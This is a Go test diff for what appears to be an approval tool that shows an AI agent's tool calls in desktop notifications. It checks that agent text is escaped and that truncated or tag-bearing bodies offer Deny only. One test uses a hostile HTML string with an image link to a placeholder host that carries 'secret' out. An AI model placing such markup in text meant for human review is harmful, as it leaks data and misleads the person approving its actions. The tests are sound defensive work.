@@ -5,7 +5,9 @@ package main_test
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -285,5 +287,111 @@ func TestMenuApproveWithAPanelApartFromTheWatcher(t *testing.T) {
 	}
 	if n := a.decisions(t, c.ID); n["approved"] != 1 || len(n) != 1 {
 		t.Fatalf("the audit log records decisions %v; want one approval", n)
+	}
+}
+
+// Agent text reaches the notification server as text: escaped for a
+// server that reads the body as markup (an <img src> there could be
+// fetched at once), and, for one that does not, shown raw with Deny only
+// — such a server may strip a tag it was told not to expect, and the
+// user would approve a text that is not what runs. A clean call offers
+// Approve on either (the positive control).
+func TestNotificationsShowAgentTextAsWritten(t *testing.T) {
+	const hostile = `<img src="http://x.example/?d=secret"> & <a href="http://x.example/">open</a>`
+	for _, tc := range []struct {
+		name   string
+		caps   []string
+		markup bool
+	}{
+		{"plain server", []string{"actions", "body"}, false},
+		{"markup server", []string{"actions", "body", "body-markup", "body-hyperlinks", "body-images"}, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			a := startApp(t, appOptions{Notifications: desktop.NotificationServerOptions{Capabilities: tc.caps}})
+			sess := a.session(t)
+			args, _ := json.Marshal(map[string]string{"message": hostile})
+			startIPC(t, a.bin, sess.Info().Socket, string(args))
+			c := pendingOne(t, a.client, "")
+			n := a.notes.Wait(t, "the hostile call's notification", func(r desktop.Recorded) bool { return len(r.Notifications) > 0 }).Notifications[0]
+			if !strings.Contains(n.Body, c.ArgsHash[:12]) {
+				t.Fatalf("the notification is not the call's: %q", n.Body)
+			}
+			if n.Icon != "" || len(n.Hints) != 1 || n.Urgency() != 2 || strings.Contains(n.Summary, "<") {
+				t.Errorf("icon %q, hints %v, summary %q: agent text, or a hint that fetches, where none belongs", n.Icon, n.Hints, n.Summary)
+			}
+			if tc.markup {
+				if strings.Contains(n.Body, "<") || !strings.Contains(n.Body, "&lt;img src=") || !strings.Contains(n.Body, " &amp; ") {
+					t.Errorf("for a markup server the body is not escaped: %q", n.Body)
+				}
+				if !slices.Contains(n.Actions, "approve") {
+					t.Errorf("escaped, the body shows as written: Approve expected; actions %q", n.Actions)
+				}
+			} else {
+				if !strings.Contains(n.Body, `<img src=\"http://x.example/?d=secret\">`) || !strings.Contains(n.Body, "Carapace menu") {
+					t.Errorf("for a plain server the body is not the text as written, with where to review it: %q", n.Body)
+				}
+				if slices.Contains(n.Actions, "approve") {
+					t.Errorf("a server that may strip tags got Approve on a body with tags: actions %q", n.Actions)
+				}
+			}
+
+			// The positive control: a clean call offers Approve.
+			if _, err := a.client.Decide(context.Background(), control.Decision{ID: c.ID, ArgsHash: c.ArgsHash, Surface: "cli"}); err != nil {
+				t.Fatal(err)
+			}
+			startIPC(t, a.bin, sess.Info().Socket, `{"message":"hello"}`)
+			c2 := pendingOne(t, a.client, c.ID)
+			r := a.notes.Wait(t, "the clean call's notification", func(r desktop.Recorded) bool {
+				return slices.ContainsFunc(r.Notifications, func(n desktop.Notification) bool { return strings.Contains(n.Body, c2.ArgsHash[:12]) })
+			})
+			i := slices.IndexFunc(r.Notifications, func(n desktop.Notification) bool { return strings.Contains(n.Body, c2.ArgsHash[:12]) })
+			if !slices.Contains(r.Notifications[i].Actions, "approve") {
+				t.Errorf("a clean call's notification offers no Approve: %+v", r.Notifications[i])
+			}
+		})
+	}
+}
+
+// A notification that cannot show every argument (the body has room for
+// 120 characters of them) offers Deny only and says to review the call
+// in the menu, where every argument is shown and the panel's Approve
+// approves; its Deny still denies. A panel apart from the watcher gets,
+// for its Approve in the menu, the same Deny-only notification and the
+// way to approve from the command line.
+func TestCutNotificationOffersDenyOnly(t *testing.T) {
+	long := strings.Repeat("all work and no play ", 12) // 252 characters
+	for _, separate := range []bool{false, true} {
+		t.Run(fmt.Sprint("separate host ", separate), func(t *testing.T) {
+			a := startApp(t, appOptions{Watcher: desktop.WatcherOptions{SeparateHost: separate}})
+			sess := a.session(t)
+			call := startIPC(t, a.bin, sess.Info().Socket, `{"message":"`+long+`"}`)
+			c := pendingOne(t, a.client, "")
+			n := a.notes.Wait(t, "the call's notification", func(r desktop.Recorded) bool { return len(r.Notifications) > 0 }).Notifications[0]
+			if !slices.Equal(n.Actions, []string{"deny", "Deny"}) || !strings.Contains(n.Body, "review it in the Carapace menu") || !strings.Contains(n.Body, "…") {
+				t.Fatalf("a cut notification: actions %q, body %q; want Deny only, and where to review", n.Actions, n.Body)
+			}
+			m := a.item.WaitMenu(t, "the call's Approve", func(m desktop.Menu) bool { return approveOf(m, c.ArgsHash) != nil })
+			a.item.Click(t, approveOf(m, c.ArgsHash).ID)
+			if !separate {
+				if out := call.wait(t); !strings.Contains(out, "all work") {
+					t.Fatalf("the call approved in the menu answered %q", out)
+				}
+				if got := decided(t, a.client, c.ID); got.Decision != "approved" || got.Surface != "app" {
+					t.Fatalf("confirmation after the panel's Approve: %+v", got)
+				}
+				return
+			}
+			rec := a.notes.Wait(t, "the notification raised again", func(r desktop.Recorded) bool { return len(r.Notifications) > 1 })
+			if again := rec.Notifications[1]; slices.Contains(again.Actions, "approve") {
+				t.Fatalf("raised again after an unvouched Approve, a cut notification offers Approve: %+v", again)
+			}
+			a.item.WaitMenu(t, "the command that approves", func(m desktop.Menu) bool {
+				return m.FindFunc(func(n *desktop.MenuNode) bool { return strings.Contains(n.Label, "carapace confirm approve "+c.ID[:8]) }) != nil
+			})
+			a.notes.Invoke(t, rec.Notifications[1].ID, "deny")
+			if got := decided(t, a.client, c.ID); got.Decision != "denied" || got.Surface != "notification" {
+				t.Fatalf("confirmation after the notification's Deny: %+v", got)
+			}
+		})
 	}
 }
